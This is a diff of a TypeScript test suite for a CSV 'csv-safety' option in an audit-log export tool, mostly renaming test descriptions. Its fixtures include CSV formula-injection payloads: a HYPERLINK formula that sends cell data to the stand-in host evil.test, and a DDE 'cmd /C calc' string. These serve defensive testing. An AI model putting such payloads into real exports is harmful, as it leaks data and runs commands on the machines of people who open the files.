@@ -18,7 +18,7 @@ import {
   type Shelf,
 } from './stores.ts';
 
-/** What strangers type, one each. */
+/** Hostile texts, one for each event. */
 const TYPED = [
   '=HYPERLINK("https://evil.test/?"&A1,"Click")',
   "+cmd|' /C calc'!A0",
@@ -56,8 +56,8 @@ function expectSafe({ copies }: Cloned): void {
   expect(pieces.filter((piece) => /^[\s"]*[=+\-@＝]/.test(piece))).toEqual([]);
 }
 
-describe('a chain of artifacts', () => {
-  test('goes on when the copy is switched on and off again; each export checks out, and the copy is no event', async () => {
+describe('csv-safety in a chain of artifacts', () => {
+  test('switched on and off again: the chain goes on, sums are true, and the copy is not read as events', async () => {
     const server = await vendor('datafold', { events });
     const store = await artifactStore(shelf);
     const [cut, end] = [WEEK.from + 2 * DAY, WEEK.from + 5 * DAY];
@@ -87,10 +87,10 @@ describe('a chain of artifacts', () => {
   });
 });
 
-describe('a commit', () => {
+describe('csv-safety in a commit', () => {
   const FOLDER = `audit-logs/datafold/2026/10/${NAME}`;
 
-  test('has the copy in parts of its own, each within the limit; the same again is no commit', async () => {
+  test('a large copy: is in parts within the limit, and the same export again makes no commit', async () => {
     const [server, hub] = [await vendor('datafold', { events }), await github()];
     const { path: gitDir, head } = hub.repository(OWN);
     const inputs = { ...OWASP, 'max-file-size': '3kB' };
@@ -119,7 +119,7 @@ describe('a commit', () => {
     });
   });
 
-  test('is gone on from with a copy as without one, unless the copy is damaged', async () => {
+  test('the last export has a copy: the chain goes on from it, unless the copy is damaged', async () => {
     const [server, hub] = [await vendor('datafold', { events }), await github()];
     const repository = hub.repository(OWN);
     const inputs = (to: number, more = {}) => onward(to, { overlap: 'P1D', 'max-file-size': '3kB', ...more });
@@ -147,7 +147,7 @@ describe('a commit', () => {
   });
 });
 
-test('what it may be is said before the first request', async () => {
+test('an unknown `csv-safety`: ends red before the first request, with the choices', async () => {
   const server = await vendor('datafold');
   const ran = await run({ vendor: 'datafold', server, with: { destination: 'file', 'csv-safety': 'on' } });
   expectRed(ran, {
